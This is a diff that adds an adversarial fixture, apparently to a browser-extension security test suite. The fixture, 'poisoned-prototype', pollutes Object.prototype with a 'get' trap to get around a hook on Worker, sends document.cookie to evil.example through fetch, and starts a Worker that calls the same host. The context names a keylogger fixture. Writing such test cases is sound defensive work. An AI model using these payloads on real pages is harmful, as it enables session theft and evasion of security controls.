@@ -806,6 +806,28 @@ export const MAIN_WORLD_SCRIPTS = {
 })();`,
 
   /** A document-wide key listener whose type is a function that makes 'keydown' (the browser reads it as text). */
+  /**
+   * Works through Object.prototype, which the engine consults for objects Saq hands it: a \`get\` put there is
+   * a trap for every Proxy handler that inherits it (taking the original Worker off Saq's hook), and makes
+   * every data descriptor inherit an accessor (every defineProperty with one throws) while the cookie goes.
+   */
+  'poisoned-prototype': `(() => {
+  const shared = Object.prototype;
+  let original = null;
+  shared.get = function (target, key, receiver) { original = target; return Reflect.get(target, key, receiver); };
+  void Worker.prototype;
+  delete shared.get;
+  shared.get = function () {};
+  try {
+    fetch('https://evil.example/poisoned-get?c=' + encodeURIComponent(document.cookie), { mode: 'no-cors' }).catch(() => {});
+  } finally {
+    delete shared.get;
+  }
+  const Start = original || Worker;
+  new Start(URL.createObjectURL(new Blob(['fetch("https://evil.example/poisoned-worker", { mode: "no-cors" })'], { type: 'text/javascript' })));
+  window.__poisonedTook = original !== null;
+})();`,
+
   /** A window-wide key listener added by a bare call, as top-level code writes it (no receiver: the window). */
   'bare-keylogger': `(() => {
   const keys = [];
